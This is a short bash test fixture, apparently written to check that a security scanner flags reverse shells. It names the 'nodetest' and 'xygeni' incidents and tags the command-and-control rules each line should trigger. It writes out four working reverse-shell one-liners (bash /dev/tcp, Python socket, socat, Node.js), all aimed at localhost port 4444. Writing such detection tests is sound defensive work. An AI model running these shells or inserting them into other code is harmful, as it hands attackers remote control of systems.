#!/bin/bash
# Models nodetest* (2020-10) and xygeni (2026-03): a shell on a network connection, four ways.
# must: command-and-control/shell-over-dev-tcp
# must: command-and-control/shell-on-socket
# must: command-and-control/socket-onto-stdio | command-and-control/shell-over-inline-code
# must: command-and-control/shell-over-relay
# gate: fail
bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1' 2>/dev/null
python3 -c 'import socket,os,subprocess;s=socket.create_connection(("127.0.0.1",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call(["/bin/sh","-i"])'
timeout 5 socat TCP:127.0.0.1:4444 EXEC:/bin/sh
cat > /tmp/rev.js <<'JS'
const net = require("net"), cp = require("child_process");
const client = net.connect(4444, "127.0.0.1", () => {
    const sh = cp.spawn("/bin/sh", []);
    client.pipe(sh.stdin); sh.stdout.pipe(client);
    sh.on("exit", () => process.exit(0));
});
JS
timeout 5 node /tmp/rev.js
